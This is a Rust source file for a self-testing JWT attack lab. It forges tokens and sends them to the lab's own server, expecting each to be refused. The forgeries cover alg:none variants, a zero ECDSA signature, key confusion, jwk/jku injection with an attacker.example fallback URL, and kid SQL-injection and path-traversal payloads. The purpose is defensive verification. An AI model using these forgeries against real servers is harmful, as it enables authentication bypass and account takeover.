//! The attack lab's attacks: each forges a token from the logged-in user's real access token
//! (or the lab's own pair) as an attacker would, sends it to the real server, and reads what
//! came back. The server must refuse every one; [`Attack::stopped_by`] names the check that does.
//!
//! Sources: PortSwigger's JWT labs, RFC 8725 (JWT Best Current Practices), jwt_tool's exploits
//! and the CVEs named on each card.

use claims::TokenPair;
use claims::compact;
use serde_json::{Map, Value, json};

use crate::api::{self, Answer};
use crate::jwt::{self, DecodedToken, encode_part};
use crate::webcrypto;

/// One card of the lab.
pub struct Attack {
    /// The card's id (`card-<id>` in the page).
    pub id: &'static str,
    /// Its title.
    pub name: &'static str,
    /// What the attacker tries.
    pub tries: &'static str,
    /// Where the attack is described.
    pub source: &'static str,
    /// The check of the server that refuses it: file and function.
    pub stopped_by: &'static str,
    /// What the refusal says when that check refused it.
    pub expects: &'static str,
}

const SIGNATURE_CHECK: &str = "The signature check in TokenCodec::decode (crates/server/src/auth/check.rs): the signature is checked over the header and payload as sent, with the server's own key and its one configured algorithm (an HMAC computed again, or an ECDSA or RSA verification with the public key), and it no longer holds.";

const ALG_NONE_CHECK: &str = "TokenCodec::decode (crates/server/src/auth/check.rs) checks the signature with the configured algorithm, never the token's alg, so an empty signature never holds; Rules::violations (crates/claims/src/check.rs) refuses none in any letter case as well.";

const KID_CHECK: &str = "KeySet::verifying (crates/server/src/auth/keyset.rs): kid only ever selects among the server's own keys, never a file or a query. With a key directory (ES256) an unknown kid finds no key and TokenCodec::decode refuses there; with one configured key kid is not even read, and the signature check refuses.";

/// What the server says of a token whose signature or key check failed.
const INVALID: &str = "Token is invalid";
/// What it says of a token of the other type.
const WRONG_TYPE: &str = "Token has wrong type";

/// Every attack, in the order the page shows them.
pub const ATTACKS: &[Attack] = &[
    Attack {
        id: "other-user",
        name: "Unverified signature: another user",
        tries: "Change user_id to another user's and keep the signature, hoping the server decodes the token without checking it.",
        source: "PortSwigger lab \"JWT authentication bypass via unverified signature\"; RFC 8725 §2.1",
        stopped_by: SIGNATURE_CHECK,
        expects: INVALID,
    },
    Attack {
        id: "long-life",
        name: "Unverified signature: a year to live",
        tries: "Move exp a year ahead and keep the signature.",
        source: "PortSwigger lab \"JWT authentication bypass via unverified signature\"",
        stopped_by: SIGNATURE_CHECK,
        expects: INVALID,
    },
    Attack {
        id: "spliced",
        name: "A signature spliced from another token",
        tries: "Keep this token's header and payload, and put the signature of another token the server really signed (the lab's own access token) after them.",
        source: "RFC 7515 §5.2: a signature covers its own header and payload, and no others",
        stopped_by: SIGNATURE_CHECK,
        expects: INVALID,
    },
    Attack {
        id: "alg-none",
        name: "alg: none",
        tries: "Say the token is unsigned (\"alg\": \"none\") and drop the signature, hoping the server believes the header.",
        source: "PortSwigger lab \"JWT authentication bypass via flawed signature verification\"; RFC 8725 §2.1, §3.1",
        stopped_by: ALG_NONE_CHECK,
        expects: INVALID,
    },
    Attack {
        id: "alg-none-capitalised",
        name: "alg: None",
        tries: "The same, capitalised, for a check that compares with \"none\" exactly.",
        source: "jwt_tool's alg:none variants",
        stopped_by: ALG_NONE_CHECK,
        expects: INVALID,
    },
    Attack {
        id: "alg-none-upper",
        name: "alg: NONE",
        tries: "The same, in capitals.",
        source: "jwt_tool's alg:none variants",
        stopped_by: ALG_NONE_CHECK,
        expects: INVALID,
    },
    Attack {
        id: "alg-none-mixed",
        name: "alg: nOnE",
        tries: "The same, in mixed case.",
        source: "jwt_tool's alg:none variants",
        stopped_by: ALG_NONE_CHECK,
        expects: INVALID,
    },
    Attack {
        id: "null-signature",
        name: "A null signature",
        tries: "Keep the header and payload and send an empty signature, for a library that treats an empty signature as a valid one.",
        source: "CVE-2020-28042",
        stopped_by: SIGNATURE_CHECK,
        expects: INVALID,
    },
    Attack {
        id: "weak-key",
        name: "A weak signing key",
        tries: "Sign with a dictionary word, then crack it from a word list in this page, as hashcat would offline. The server's own key is never the target.",
        source: "PortSwigger lab \"JWT authentication bypass via weak signing key\"; RFC 8725 §3.5",
        stopped_by: "The signature check in TokenCodec::decode (crates/server/src/auth/check.rs), with a key that is no word of any list: the generated development key (.secret_key) is 256 random bits, and a key set in SECRET_KEY or JWT_SIGNING_KEY is refused at start when short or guessable (checked_secret, crates/server/src/auth/keys.rs).",
        expects: INVALID,
    },
    Attack {
        id: "jwk-injection",
        name: "jwk header injection",
        tries: "Make a key pair here, sign with its private half, and put the public half in the header's jwk, hoping the server verifies with the key the token brings.",
        source: "CVE-2018-0114; PortSwigger lab \"JWT authentication bypass via jwk header injection\"",
        stopped_by: "TokenCodec::decode (crates/server/src/auth/check.rs) takes the key from the server's own set (KeySet::verifying, crates/server/src/auth/keyset.rs); the header's jwk is never read (claims::Header has no such member).",
        expects: INVALID,
    },
    Attack {
        id: "jku",
        name: "jku to a key set the attacker made",
        tries: "Publish a key set of the attacker's and point the header's jku at it, with its kid. A real attacker serves it from a host of theirs; here a blob: URL of this page stands in, which no server could fetch.",
        source: "PortSwigger lab \"JWT authentication bypass via jku header injection\"",
        stopped_by: "The server never fetches a URL from a token: jku is never read (claims::Header), and the key comes from KeySet::verifying (crates/server/src/auth/keyset.rs): with a key directory the kid \"lab\" finds none, with one configured key the signature check refuses.",
        expects: INVALID,
    },
    Attack {
        id: "kid-traversal",
        name: "kid path traversal",
        tries: "Point kid at /dev/null and sign with the key an empty file gives (64 zero bytes: WebCrypto refuses an empty HMAC key, and HMAC pads a short key with zeros).",
        source: "PortSwigger lab \"JWT authentication bypass via kid header path traversal\"",
        stopped_by: KID_CHECK,
        expects: INVALID,
    },
    Attack {
        id: "kid-sql",
        name: "kid SQL injection",
        tries: "Put SQL in kid that would make a key lookup return a key the attacker chose, and sign with that key.",
        source: "jwt_tool, kid injection",
        stopped_by: KID_CHECK,
        expects: INVALID,
    },
    Attack {
        id: "algorithm-confusion",
        name: "Algorithm confusion",
        tries: "Move exp a year ahead and sign with HS256, using the server's published public key (as PEM, the form vulnerable libraries read) as the HMAC secret, for a server that lets the token's alg pick the algorithm.",
        source: "PortSwigger labs \"JWT authentication bypass via algorithm confusion\" (and \"with no exposed key\"); CVE-2016-10555; RFC 8725 §2.1",
        stopped_by: "TokenCodec::decode (crates/server/src/auth/check.rs) verifies with the configured algorithm: configured with a key pair it never computes an HMAC, so neither the published key nor one recovered from two tokens would help.",
        expects: INVALID,
    },
    Attack {
        id: "psychic-signature",
        name: "ECDSA psychic signature",
        tries: "Move exp a year ahead and send r = s = 0 as the ES256 signature, which some ECDSA verifiers accept for any message.",
        source: "CVE-2022-21449",
        stopped_by: "jsonwebtoken's ECDSA verification (the ecdsa crate, through p256), called from TokenCodec::decode (crates/server/src/auth/check.rs), refuses a zero r or s.",
        expects: INVALID,
    },
    Attack {
        id: "crit",
        name: "An unknown crit",
        tries: "Mark a header extension critical (\"crit\": [\"lab\"]) that the server does not understand.",
        source: "RFC 7515 §4.1.11",
        stopped_by: "The signature check in TokenCodec::decode (crates/server/src/auth/check.rs) refuses it first (the header changed); a token the server signed with a crit would be refused by Rules::violations (crates/claims/src/check.rs), which understands no extension.",
        expects: INVALID,
    },
    Attack {
        id: "expired",
        name: "An expired token",
        tries: "Send a token whose exp has passed (here: moved an hour back).",
        source: "RFC 7519 §4.1.4",
        stopped_by: "The signature check in TokenCodec::decode (crates/server/src/auth/check.rs) refuses it first (the payload changed); once the server's own token reaches its exp, Rules::violations (crates/claims/src/check.rs) refuses it as \"Token is expired\" (the inspector shows that check).",
        expects: INVALID,
    },
    Attack {
        id: "not-yet-valid",
        name: "A future nbf",
        tries: "Send a token that says it is not valid before tomorrow.",
        source: "RFC 7519 §4.1.5",
        stopped_by: "The signature check in TokenCodec::decode (crates/server/src/auth/check.rs) refuses it first (the payload changed); a signed nbf in the future is refused by Rules::violations (crates/claims/src/check.rs).",
        expects: INVALID,
    },
    Attack {
        id: "refresh-as-access",
        name: "A refresh token as an access token",
        tries: "Send the lab's refresh token, which the server really signed, to a protected view.",
        source: "RFC 8725 §3.12 (different rules for different kinds of token), §2.8; simplejwt's token_type",
        stopped_by: "Claims::verify (crates/claims/src/check.rs): a protected view takes access tokens only, \"Token has wrong type\".",
        expects: WRONG_TYPE,
    },
    Attack {
        id: "access-as-refresh",
        name: "An access token as a refresh token",
        tries: "Trade your access token for new tokens at POST /api/token/refresh/.",
        source: "RFC 8725 §3.12 (different rules for different kinds of token), §2.8",
        stopped_by: "Claims::verify (crates/claims/src/check.rs): the refresh endpoint takes refresh tokens only, \"Token has wrong type\".",
        expects: WRONG_TYPE,
    },
    Attack {
        id: "replay",
        name: "A replayed refresh token",
        tries: "Refresh the lab's pair once, then replay the refresh token that rotation replaced, as a thief holding an old copy would.",
        source: "RFC 9700 §4.14.2 (refresh token rotation); Auth0's reuse detection",
        stopped_by: "tokens::refresh (crates/server/src/services/tokens.rs): a rotated-out token presented again is reuse, and its whole family is revoked; the browser's own session, another family, carries on.",
        expects: "Token is blacklisted",
    },
];

/// What the attacks start from.
pub struct Ground {
    /// The logged-in user's access token.
    pub access: String,
    /// The lab's own pair (`POST /api/token/` with the user's password), when asked for.
    pub pair: Option<TokenPair>,
    /// The server's first published public key (none with HMAC).
    pub public_key: Option<Value>,
}

/// A forged token and which of its parts the attacker changed.
#[derive(Debug, Clone, PartialEq)]
pub struct Forged {
    /// Header, payload and signature, base64url.
    pub parts: [String; 3],
    /// Whether each part differs from the token it was made from.
    pub changed: [bool; 3],
}

impl Forged {
    /// The token, as sent.
    pub fn token(&self) -> String {
        self.parts.join(".")
    }
}

/// What running an attack showed.
#[derive(Debug, Clone, PartialEq)]
pub enum Verdict {
    /// Sent, and judged.
    Sent {
        /// The token sent, when one was forged.
        forged: Option<Forged>,
        /// What was sent where: `GET /hello/`.
        request: &'static str,
        /// The answer.
        answer: Answer,
        /// More the card shows: a cracking time, the second half of a replay.
        note: Option<String>,
        /// Whether the server refused it, and for the reason the card names.
        judgement: Judgement,
    },
    /// The attack needs another setup than this server's, which the string names.
    NotApplicable(String),
    /// The lab could not run it (no pair yet, WebCrypto refused): why.
    CouldNotRun(String),
}

/// How the server took an attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Judgement {
    /// Refused, with the message of the check the card names.
    AsClaimed,
    /// Refused, but with another message: not the check the card names.
    OtherReason,
    /// Accepted: a 2xx.
    NotRefused,
}

/// Words a cracker tries first; the weak key is one of them.
const WORD_LIST: [&str; 12] = [
    "password", "123456", "qwerty", "letmein", "admin", "welcome", "jwt", "changeme", "django",
    "key", "secret1", "secret",
];
/// The weak key the attacker signs with.
const WEAK_KEY: &str = "secret";

/// Runs `attack` from `ground` against the server, and judges the answer.
pub async fn run(attack: &Attack, ground: &Ground) -> Verdict {
    judged(attack, forge_and_send(attack, ground).await)
}

/// The verdict, judged by `attack`'s expectation: no answer is no verdict.
fn judged(attack: &Attack, verdict: Verdict) -> Verdict {
    let Verdict::Sent {
        forged,
        request,
        answer,
        note,
        ..
    } = verdict
    else {
        return verdict;
    };
    if answer.status == 0 {
        return Verdict::CouldNotRun(answer.body);
    }
    let judgement = match answer.status {
        200..=299 => Judgement::NotRefused,
        401 if answer.body.contains(attack.expects) => Judgement::AsClaimed,
        _ => Judgement::OtherReason,
    };
    Verdict::Sent {
        forged,
        request,
        answer,
        note,
        judgement,
    }
}

async fn forge_and_send(attack: &Attack, ground: &Ground) -> Verdict {
    let Ok(token) = jwt::decode(&ground.access) else {
        return Verdict::CouldNotRun("The session's access token is not a JWT.".into());
    };
    match attack.id {
        "other-user" => {
            let other = another_user(token.payload.get("user_id"));
            hello(kept_signature(&token, |payload| {
                payload.insert("user_id".into(), other);
            }))
            .await
        }
        "long-life" => {
            let exp = claim(&token, "exp") + 365 * 24 * 3600;
            hello(kept_signature(&token, |payload| {
                payload.insert("exp".into(), json!(exp));
            }))
            .await
        }
        "expired" => {
            let exp = claim(&token, "exp") - 3600;
            hello(kept_signature(&token, |payload| {
                payload.insert("exp".into(), json!(exp));
            }))
            .await
        }
        "not-yet-valid" => {
            let iat = claim(&token, "iat");
            hello(kept_signature(&token, |payload| {
                payload.insert("nbf".into(), json!(iat + 24 * 3600));
            }))
            .await
        }
        "spliced" => {
            let Some(pair) = &ground.pair else {
                return needs_pair();
            };
            let Ok(other) = jwt::decode(&pair.access) else {
                return Verdict::CouldNotRun("The lab's access token is not a JWT.".into());
            };
            let mut forged = unchanged(&token);
            forged.parts[2] = other.parts[2].clone();
            hello(made_from(&token, forged.parts)).await
        }
        "alg-none" => hello(unsigned(&token, "none")).await,
        "alg-none-capitalised" => hello(unsigned(&token, "None")).await,
        "alg-none-upper" => hello(unsigned(&token, "NONE")).await,
        "alg-none-mixed" => hello(unsigned(&token, "nOnE")).await,
        "null-signature" => {
            let mut forged = unchanged(&token);
            forged.parts[2] = String::new();
            hello(made_from(&token, forged.parts)).await
        }
        "weak-key" => weak_key(&token).await,
        "jwk-injection" => jwk_injection(&token).await,
        "jku" => jku(&token).await,
        "kid-traversal" => {
            let header = header_with(
                &token,
                &[
                    ("alg", json!("HS256")),
                    ("kid", json!("../../../../../../dev/null")),
                ],
            );
            hmac_signed(&token, header, &[0; 64]).await
        }
        "kid-sql" => {
            let key = "lab-key";
            let kid = format!("x' UNION SELECT '{key}' -- ");
            let header = header_with(&token, &[("alg", json!("HS256")), ("kid", json!(kid))]);
            hmac_signed(&token, header, key.as_bytes()).await
        }
        "algorithm-confusion" => algorithm_confusion(&token, ground).await,
        "psychic-signature" => psychic_signature(&token, ground).await,
        "crit" => {
            let mut forged = unchanged(&token);
            let header = header_with(&token, &[("crit", json!(["lab"])), ("lab", json!(true))]);
            forged.parts[0] = encode_part(&header);
            hello(made_from(&token, forged.parts)).await
        }
        "refresh-as-access" => {
            let Some(pair) = &ground.pair else {
                return needs_pair();
            };
            let answer = api::hello_answer(&pair.refresh).await;
            sent(None, "GET /hello/ with the refresh token", answer, None)
        }
        "access-as-refresh" => {
            let answer = api::refresh_answer(&ground.access).await;
            sent(
                None,
                "POST /api/token/refresh/ with the access token",
                answer,
                None,
            )
        }
        "replay" => replay(ground).await,
        _ => Verdict::CouldNotRun(format!("No attack is called {}.", attack.id)),
    }
}

/// Another user's id, written as the token writes its own (simplejwt writes a string).
fn another_user(id: Option<&Value>) -> Value {
    match id {
        Some(Value::Number(id)) => json!(id.as_i64().unwrap_or(0) + 1),
        Some(Value::String(id)) => json!(id.parse::<i64>().map_or(1, |id| id + 1).to_string()),
        _ => json!("1"),
    }
}

fn needs_pair() -> Verdict {
    Verdict::CouldNotRun(
        "This attack needs the lab's own pair: enter your password above first.".into(),
    )
}

fn claim(token: &DecodedToken, name: &str) -> i64 {
    token.payload.get(name).and_then(Value::as_i64).unwrap_or(0)
}

fn unchanged(token: &DecodedToken) -> Forged {
    Forged {
        parts: token.parts.clone(),
        changed: [false; 3],
    }
}

/// `parts` as a forgery of `token`: each part marked changed where it differs.
fn made_from(token: &DecodedToken, parts: [String; 3]) -> Forged {
    let changed = [0, 1, 2].map(|index| parts[index] != token.parts[index]);
    Forged { parts, changed }
}

/// The payload changed by `change`, the header and signature kept.
fn kept_signature(token: &DecodedToken, change: impl FnOnce(&mut Map<String, Value>)) -> Forged {
    let mut payload = token.payload.clone();
    change(&mut payload);
    let mut forged = unchanged(token);
    forged.parts[1] = encode_part(&payload);
    made_from(token, forged.parts)
}

/// The token's header with `members` set.
fn header_with(token: &DecodedToken, members: &[(&str, Value)]) -> Map<String, Value> {
    let mut header = token.header.clone();
    for (name, value) in members {
        header.insert((*name).to_owned(), value.clone());
    }
    header
}

/// `alg` set to `none` as written, and no signature.
fn unsigned(token: &DecodedToken, none: &str) -> Forged {
    let header = header_with(token, &[("alg", json!(none))]);
    made_from(
        token,
        [encode_part(&header), token.parts[1].clone(), String::new()],
    )
}

/// `header` and the token's payload, signed with HMAC-SHA-256 and `key`, sent to `/hello/`.
async fn hmac_signed(token: &DecodedToken, header: Map<String, Value>, key: &[u8]) -> Verdict {
    let header = encode_part(&header);
    let input = format!("{header}.{}", token.parts[1]);
    match webcrypto::hmac_sha256(key, input.as_bytes()).await {
        Ok(signature) => {
            let forged = made_from(
                token,
                [header, token.parts[1].clone(), compact::encode(&signature)],
            );
            hello(forged).await
        }
        Err(error) => Verdict::CouldNotRun(format!("WebCrypto: {error}")),
    }
}

async fn weak_key(token: &DecodedToken) -> Verdict {
    let header = header_with(token, &[("alg", json!("HS256"))]);
    let input = format!("{}.{}", encode_part(&header), token.parts[1]);
    let signature = match webcrypto::hmac_sha256(WEAK_KEY.as_bytes(), input.as_bytes()).await {
        Ok(signature) => signature,
        Err(error) => return Verdict::CouldNotRun(format!("WebCrypto: {error}")),
    };
    let started = webcrypto::now_ms();
    let mut found = None;
    for (tried, word) in WORD_LIST.iter().enumerate() {
        if webcrypto::hmac_sha256(word.as_bytes(), input.as_bytes())
            .await
            .ok()
            == Some(signature.clone())
        {
            found = Some((word, tried + 1));
            break;
        }
    }
    let took = webcrypto::now_ms() - started;
    let note = match found {
        Some((word, tried)) => format!(
            "Cracked in {took:.1} ms: the key is \"{word}\", word {tried} of the {} tried. \
             A GPU tries billions of words a second; the 256 random bits of a generated key would take longer than the universe has existed.",
            WORD_LIST.len()
        ),
        None => "The word list did not hold the key.".to_owned(),
    };
    let forged = made_from(
        token,
        [
            encode_part(&header),
            token.parts[1].clone(),
            compact::encode(&signature),
        ],
    );
    let answer = api::hello_answer(&forged.token()).await;
    sent(Some(forged), "GET /hello/", answer, Some(note))
}

async fn jwk_injection(token: &DecodedToken) -> Verdict {
    let pair = match webcrypto::ec_key_pair().await {
        Ok(pair) => pair,
        Err(error) => return Verdict::CouldNotRun(format!("WebCrypto: {error}")),
    };
    let header = header_with(
        token,
        &[("alg", json!("ES256")), ("jwk", pair.public_jwk.clone())],
    );
    es256_signed(token, header, &pair, None).await
}

async fn jku(token: &DecodedToken) -> Verdict {
    let pair = match webcrypto::ec_key_pair().await {
        Ok(pair) => pair,
        Err(error) => return Verdict::CouldNotRun(format!("WebCrypto: {error}")),
    };
    let mut key = pair.public_jwk.clone();
    key["kid"] = json!("lab");
    let set = json!({ "keys": [key] }).to_string();
    let url = blob_url(&set).unwrap_or_else(|| "https://attacker.example/jwks.json".into());
    let header = header_with(
        token,
        &[
            ("alg", json!("ES256")),
            ("kid", json!("lab")),
            ("jku", json!(url)),
        ],
    );
    let note = format!("The key set the header points at: {set}");
    let verdict = es256_signed(token, header, &pair, Some(note)).await;
    let _ = web_sys::Url::revoke_object_url(&url);
    verdict
}

/// A `blob:` URL of this page holding `text`, as an attacker's server would publish it.
fn blob_url(text: &str) -> Option<String> {
    let parts: js_sys::Array = std::iter::once(wasm_bindgen::JsValue::from_str(text)).collect();
    let options = web_sys::BlobPropertyBag::new();
    options.set_type("application/json");
    let blob = web_sys::Blob::new_with_str_sequence_and_options(&parts, &options).ok()?;
    web_sys::Url::create_object_url_with_blob(&blob).ok()
}

async fn es256_signed(
    token: &DecodedToken,
    header: Map<String, Value>,
    pair: &webcrypto::EcKeyPair,
    note: Option<String>,
) -> Verdict {
    let header = encode_part(&header);
    let input = format!("{header}.{}", token.parts[1]);
    match webcrypto::es256_sign(pair, input.as_bytes()).await {
        Ok(signature) => {
            let forged = made_from(
                token,
                [header, token.parts[1].clone(), compact::encode(&signature)],
            );
            let answer = api::hello_answer(&forged.token()).await;
            sent(Some(forged), "GET /hello/", answer, note)
        }
        Err(error) => Verdict::CouldNotRun(format!("WebCrypto: {error}")),
    }
}

/// Whether the server signs with a key pair, by the algorithm its own token names.
fn signs_with_key_pair(token: &DecodedToken) -> bool {
    token
        .header
        .get("alg")
        .and_then(Value::as_str)
        .is_some_and(|alg| claims::KEY_PAIR_ALGORITHMS.contains(&alg))
}

async fn algorithm_confusion(token: &DecodedToken, ground: &Ground) -> Verdict {
    let (true, Some(public)) = (signs_with_key_pair(token), &ground.public_key) else {
        return Verdict::NotApplicable(
            "This server signs with an HMAC secret (HS256), so it publishes no public key to confuse it with. Start it with a key pair (cargo xtask serve --es256) to run this attack.".into(),
        );
    };
    let secret = match webcrypto::public_key_pem(public).await {
        Ok(pem) => pem,
        Err(error) => return Verdict::CouldNotRun(format!("WebCrypto: {error}")),
    };
    let kid = public.get("kid").cloned().unwrap_or(Value::Null);
    let header = encode_part(&header_with(
        token,
        &[("alg", json!("HS256")), ("kid", kid)],
    ));
    let mut payload = token.payload.clone();
    payload.insert("exp".into(), json!(claim(token, "exp") + 365 * 24 * 3600));
    let payload = encode_part(&payload);
    let input = format!("{header}.{payload}");
    match webcrypto::hmac_sha256(secret.as_bytes(), input.as_bytes()).await {
        Ok(signature) => {
            let forged = made_from(token, [header, payload, compact::encode(&signature)]);
            let answer = api::hello_answer(&forged.token()).await;
            let note = format!("The HMAC secret: the server's published key as PEM,\n{secret}");
            sent(Some(forged), "GET /hello/", answer, Some(note))
        }
        Err(error) => Verdict::CouldNotRun(format!("WebCrypto: {error}")),
    }
}

async fn psychic_signature(token: &DecodedToken, ground: &Ground) -> Verdict {
    let es256 = token.header.get("alg").and_then(Value::as_str) == Some("ES256");
    if !es256 || ground.public_key.is_none() {
        return Verdict::NotApplicable(
            "This server does not sign with ES256, so an ECDSA signature is never checked here. Start it with cargo xtask serve --es256 to run this attack.".into(),
        );
    }
    let forged = kept_signature(token, |payload| {
        payload.insert("exp".into(), json!(claim(token, "exp") + 365 * 24 * 3600));
    });
    let forged = made_from(
        token,
        [
            forged.parts[0].clone(),
            forged.parts[1].clone(),
            compact::encode(&[0; 64]),
        ],
    );
    hello(forged).await
}

async fn replay(ground: &Ground) -> Verdict {
    let Some(pair) = &ground.pair else {
        return needs_pair();
    };
    let first = api::refresh_answer(&pair.refresh).await;
    if first.status != 200 {
        return Verdict::CouldNotRun(format!(
            "The lab's refresh token no longer works ({} {}). Get a new pair above.",
            first.status, first.body
        ));
    }
    let refreshed: Value = serde_json::from_str(&first.body).unwrap_or_default();
    let (Some(_), Some(access)) = (refreshed["refresh"].as_str(), refreshed["access"].as_str())
    else {
        return Verdict::NotApplicable(
            "This server does not rotate refresh tokens (JWT_ROTATE_REFRESH_TOKENS is off), so no token was replaced to replay.".into(),
        );
    };
    let replayed = api::refresh_answer(&pair.refresh).await;
    let family = api::hello_answer(access).await;
    let own = api::hello_answer(&ground.access).await;
    let family_line = match family.status {
        401 => "refused too: the whole family was revoked".to_owned(),
        200 => "still accepted: reuse detection is off (JWT_REFRESH_REUSE_DETECTION), so only the replayed token is refused".to_owned(),
        status => format!("answered {status}"),
    };
    let mut note = format!(
        "Then the access token the rotation gave, of the same family: GET /hello/ answered {} ({family_line}). \
         This page's own session, another family: {} {}.",
        family.status, own.status, own.body
    );
    if (200..300).contains(&replayed.status) {
        note.push_str(
            " The server took the replayed token: within JWT_REFRESH_REUSE_GRACE a retry gets the same successor, \
             and with JWT_BLACKLIST_AFTER_ROTATION off a replaced token stays valid.",
        );
    }
    Verdict::Sent {
        forged: None,
        request: "POST /api/token/refresh/ with the replaced refresh token",
        answer: replayed,
        note: Some(note),
        judgement: Judgement::NotRefused,
    }
}

async fn hello(forged: Forged) -> Verdict {
    let answer = api::hello_answer(&forged.token()).await;
    sent(Some(forged), "GET /hello/", answer, None)
}

fn sent(
    forged: Option<Forged>,
    request: &'static str,
    answer: Answer,
    note: Option<String>,
) -> Verdict {
    Verdict::Sent {
        forged,
        request,
        answer,
        note,
        judgement: Judgement::NotRefused,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn token() -> DecodedToken {
        let part = |value: Value| compact::encode(&serde_json::to_vec(&value).unwrap());
        let text = format!(
            "{}.{}.c2lnbmF0dXJl",
            part(json!({"alg": "HS256", "typ": "JWT"})),
            part(json!({"user_id": 1, "exp": 2000, "iat": 1000}))
        );
        jwt::decode(&text).unwrap()
    }

    #[test]
    fn every_card_has_a_unique_id_and_names_what_stops_it() {
        let mut ids: Vec<&str> = ATTACKS.iter().map(|a| a.id).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), ATTACKS.len());
        assert!(ATTACKS.iter().all(|a| a.stopped_by.contains("crates/")));
    }

    #[test]
    fn a_kept_signature_marks_only_the_payload_changed() {
        let forged = kept_signature(&token(), |payload| {
            payload.insert("user_id".into(), json!(2));
        });

        assert_eq!(forged.changed, [false, true, false]);
        assert_eq!(forged.parts[2], "c2lnbmF0dXJl");
        let decoded = jwt::decode(&forged.token()).unwrap();
        assert_eq!(decoded.payload["user_id"], json!(2));
    }

    #[test]
    fn an_unsigned_token_says_none_as_written_and_has_no_signature() {
        let forged = unsigned(&token(), "nOnE");

        assert!(forged.token().ends_with('.'));
        assert_eq!(jwt::decode(&forged.token()).unwrap().header["alg"], "nOnE");
    }

    #[test]
    fn an_hmac_server_has_no_key_to_confuse_and_no_ecdsa_to_fool() {
        assert!(!signs_with_key_pair(&token()));
    }

    #[test]
    fn another_user_is_written_as_the_token_writes_its_own() {
        assert_eq!(another_user(Some(&json!("7"))), json!("8"));
        assert_eq!(another_user(Some(&json!(7))), json!(8));
        assert_eq!(another_user(None), json!("1"));
    }

    #[test]
    fn a_refusal_counts_only_with_the_message_the_card_expects() {
        let attack = &ATTACKS[0];
        let answer = |status: u16, body: &str| Verdict::Sent {
            forged: None,
            request: "GET /hello/",
            answer: Answer {
                status,
                body: body.into(),
            },
            note: None,
            judgement: Judgement::NotRefused,
        };
        let judgement = |verdict: Verdict| match judged(attack, verdict) {
            Verdict::Sent { judgement, .. } => Some(judgement),
            _ => None,
        };

        let invalid = r#"{"detail":"Token is invalid"}"#;
        assert_eq!(judgement(answer(401, invalid)), Some(Judgement::AsClaimed));
        let expired = r#"{"detail":"Token is expired"}"#;
        assert_eq!(
            judgement(answer(401, expired)),
            Some(Judgement::OtherReason)
        );
        assert_eq!(judgement(answer(400, "{}")), Some(Judgement::OtherReason));
        assert_eq!(judgement(answer(200, "{}")), Some(Judgement::NotRefused));
        assert_eq!(judgement(answer(0, "no answer")), None);
    }
}
